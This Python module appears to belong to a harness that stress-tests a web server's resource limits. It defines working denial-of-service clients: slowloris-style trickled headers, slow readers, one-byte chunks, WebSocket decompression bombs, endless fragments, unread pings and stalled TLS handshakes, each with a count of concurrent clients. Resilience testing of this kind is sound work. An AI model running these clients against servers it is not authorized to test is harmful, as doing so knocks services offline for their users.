"""The attacks: what a client of each does, how many there are, and the options without which it would take too long."""

import asyncio
import contextlib
from dataclasses import dataclass
from typing import Callable

from attacks.connections import Connection, client_hello, deflated, frame, head

MIB = 1 << 20
# Faster than the server demands of content and of those who read (tornado.server.min-data-rate).
RATE = 300
STAY = 10
# All but a little of what is announced.
ANNOUNCED, AT_ONCE = 10 * MIB, int(9.9 * MIB)
ZEROS = bytes(MIB)

UNWANTED_PATHS = ["/unknown", "/plaintext", "/redirect", "/static/README.md"]

BEHIND = head("GET", "/plaintext") * (130 * 1024 // len(head("GET", "/plaintext")))
# Without its end, some hundred bytes short of Spring Boot's 8 KB, in less than a hundred fields.
LONG_HEAD = head("GET", "/plaintext", *(f"Field-{i}: {'x' * 70}" for i in range(95)))[:-2]
LONG_HEAD_AT_ONCE = 7000
ONE_BYTE_CHUNKS = b"1;e\r\nx\r\n" + b"1\r\nx\r\n" * 999
CHUNK_INTERVAL = len(ONE_BYTE_CHUNKS) / 100_000


TEXT, BINARY, CLOSE, PING, FIN, RSV1 = 0x01, 0x02, 0x08, 0x09, 0x80, 0x40
ONE_BYTE_FRAGMENTS = frame(0, b"x") * 1000
FRAGMENT_INTERVAL = len(ONE_BYTE_FRAGMENTS) / 100_000
# Just below the largest message that is taken.
BOMB = frame(FIN | RSV1 | BINARY, deflated(bytes(MIB - 1)))
# Of the largest size that is taken by default, and of a size that such a heap has room for.
LARGE_BOMBS = [frame(FIN | RSV1 | BINARY, deflated(bytes(mib * MIB - 1))) for mib in (10, 4)]
# A thousand times as long as they are sent, of characters of one byte and of three.
TEXT_BOMBS = [frame(FIN | RSV1 | TEXT, deflated((c * (MIB // len(c.encode()))).encode())) for c in ("a", "\u20ac")]
SMALL_COMPRESSED = frame(FIN | RSV1 | TEXT, deflated(b"hello " * 20))
PINGS = frame(FIN | PING, bytes(125)) * 400
LARGE_MESSAGE = frame(FIN | BINARY, bytes(64 << 10))
DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate"


@dataclass(frozen=True)
class Attack:
    """Its clients come within two seconds, and each comes again when it was turned away, after a pause."""

    name: str
    title: str
    client: Callable
    count: int
    pause: float = 1
    options: tuple = ()
    tls_only: bool = False


async def behind(target, number):
    async with Connection(target, reset=number % 2 == 0) as connection:
        connection.offer(head("GET", "/slow") + BEHIND)
        await asyncio.sleep(STAY)


async def unwanted(target, number):
    await upload(target, UNWANTED_PATHS[number % len(UNWANTED_PATHS)], expect=number // len(UNWANTED_PATHS) % 2 == 1)


async def collected(target, number):
    await upload(target, "/collected", expect=number % 2 == 1)


async def upload(target, path, expect):
    """Sends the content whatever the server answers."""
    expectation = ["Expect: 100-continue"] if expect else []
    async with Connection(target) as connection:
        await connection.send(head("POST", path, f"Content-Length: {ANNOUNCED}", *expectation))
        if expect:
            await connection.wait_for_bytes(1)
        for start in range(0, AT_ONCE, MIB):
            await connection.send(ZEROS[: AT_ONCE - start])
        await connection.trickle(ZEROS[: ANNOUNCED - AT_ONCE], RATE)


async def readers(target, number):
    async with Connection(target, receive_buffer=4096) as connection:
        await connection.request("/large")
        await connection.sip(RATE)


async def events(target, number):
    """Comes anew now and then: one that reads nothing does not see that it was cut off."""
    async with Connection(target, receive_buffer=4096) as connection:
        connection.writer.transport.pause_reading()
        await connection.send(head("GET", "/events"))
        await asyncio.sleep(2 * STAY)


async def places(target, number):
    """Two requests in the time for which a connection may be idle."""
    async with Connection(target) as connection:
        while True:
            await connection.get("/plaintext")
            await asyncio.sleep(1)


async def heads(target, number):
    async with Connection(target) as connection:
        await connection.send(LONG_HEAD[:LONG_HEAD_AT_ONCE])
        await connection.trickle(LONG_HEAD[LONG_HEAD_AT_ONCE:], 40)
        await connection.wait_for_end()


async def chunks(target, number):
    async with Connection(target) as connection:
        await connection.send(head("POST", "/collected", "Transfer-Encoding: chunked"))
        while True:
            await connection.send(ONE_BYTE_CHUNKS)
            await asyncio.sleep(CHUNK_INTERVAL)


async def tls_handshakes(target, number):
    """Half of them wait for the answer to a whole message, the others stop in the midst of it."""
    hello = client_hello()
    async with Connection(target, handshake=False) as connection:
        await connection.send(hello if number % 2 == 0 else hello[: len(hello) // 2])
        await connection.wait_for_end()


async def socket_lengths(target, number):
    """Announce the largest message that is taken, and send a kilobyte of it; some announce more than there can be."""
    async with Connection(target) as connection:
        await connection.open_socket("/socket")
        announced = (1 << 62) if number % 8 == 0 else 10 * MIB
        await connection.send(frame(FIN | BINARY, bytes(1024), announced))
        await connection.wait_for_end()


async def socket_fragments(target, number):
    """A message that never ends."""
    async with Connection(target) as connection:
        await connection.open_socket("/socket")
        await connection.send(frame(TEXT, b"x"))
        while True:
            await connection.send(ONE_BYTE_FRAGMENTS)
            await asyncio.sleep(FRAGMENT_INTERVAL)


async def socket_bombs(target, number):
    async with Connection(target) as connection:
        await connection.open_socket("/socket", DEFLATE)
        while True:
            await connection.send(BOMB)
            await asyncio.sleep(1)


async def socket_large_bombs(target, number):
    async with Connection(target) as connection:
        await connection.open_socket("/socket", DEFLATE)
        while True:
            await connection.send(LARGE_BOMBS[number % len(LARGE_BOMBS)])
            await asyncio.sleep(1)


async def socket_text_bombs(target, number):
    async with Connection(target) as connection:
        await connection.open_socket("/socket", DEFLATE)
        while True:
            await connection.send(TEXT_BOMBS[number % len(TEXT_BOMBS)])
            await asyncio.sleep(STAY)


async def socket_windows(target, number):
    """Have the server remember what they said."""
    async with Connection(target) as connection:
        await connection.open_socket("/socket", DEFLATE)
        await connection.send(SMALL_COMPRESSED)
        await asyncio.sleep(STAY)


async def socket_pings(target, number):
    """Read none of the answers."""
    async with Connection(target, receive_buffer=4096) as connection:
        await connection.open_socket("/socket")
        connection.writer.transport.pause_reading()
        while True:
            await connection.send(PINGS)
            await asyncio.sleep(0.5)


async def socket_readers(target, number):
    """Have sent back what they do not read, and come anew now and then."""
    async with Connection(target, receive_buffer=4096) as connection:
        await connection.open_socket("/socket")
        connection.writer.transport.pause_reading()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(send_again(connection, LARGE_MESSAGE, 200), STAY)


async def send_again(connection, data, times):
    for _ in range(times):
        await connection.send(data)


async def socket_closes(target, number):
    """Do not answer a close frame, and send on."""
    async with Connection(target) as connection:
        await connection.open_socket("/socket")
        await connection.send(frame(FIN | TEXT, b"close"))
        while True:
            await connection.send(frame(FIN | TEXT, b"more"))
            await asyncio.sleep(0.2)


COMPRESSED = ("--tornado.web.websocket.compression.enabled=true",)
BOMBED = (*COMPRESSED, "--tornado.web.websocket.max-message-size=1MB")
PLACES = ("--tornado.server.max-connections=200", "--tornado.server.idle-connection-timeout=2s")

ATTACKS = {
    attack.name: attack
    for attack in (
        Attack("behind", "130 KB behind a request for a slow response, then gone", behind, 600),
        Attack("unwanted", "10 MB for which there is no handler", unwanted, 24, pause=5),
        Attack("collected", "10 MB for a handler that collects content", collected, 24, pause=5),
        Attack("readers", "8 MB read at 300 bytes a second", readers, 20),
        Attack("events", "streams of events that are not read", events, 12),
        Attack("places", "as many connections as are allowed, in use", places, 200, options=PLACES),
        Attack("heads", "heads that trickle", heads, 600),
        Attack("chunks", "content in chunks of one byte", chunks, 50),
        Attack("socket-lengths", "WebSocket messages that are announced and do not come", socket_lengths, 200),
        Attack("socket-fragments", "WebSocket messages in fragments of one byte", socket_fragments, 50),
        Attack("socket-bombs", "WebSocket messages of 1 KB that become 1 MB", socket_bombs, 12, options=BOMBED),
        Attack(
            "socket-large-bombs", "WebSocket messages that become 10 MB, or 4", socket_large_bombs, 12, options=COMPRESSED
        ),
        Attack(
            "socket-text-bombs", "WebSocket texts of 1 KB that become 1 MB", socket_text_bombs, 150, options=COMPRESSED
        ),
        Attack("socket-windows", "WebSockets whose compression is remembered", socket_windows, 600, options=COMPRESSED),
        Attack("socket-pings", "pings whose answers are not read", socket_pings, 50),
        Attack("socket-readers", "WebSocket messages sent back and not read", socket_readers, 50),
        Attack("socket-closes", "close frames that are not answered", socket_closes, 100),
        Attack("tls-handshakes", "handshakes that stop", tls_handshakes, 600, tls_only=True),
    )
}
ALL = "all"


def names(tls):
    return [attack.name for attack in ATTACKS.values() if tls or not attack.tls_only] + [ALL]


def chosen(name, tls):
    """All at once leave the options as they are: one of them would keep the others out."""
    return [ATTACKS[each] for each in names(tls)[:-1]] if name == ALL else [ATTACKS[name]]


def options(name):
    return ATTACKS[name].options if name in ATTACKS else ()
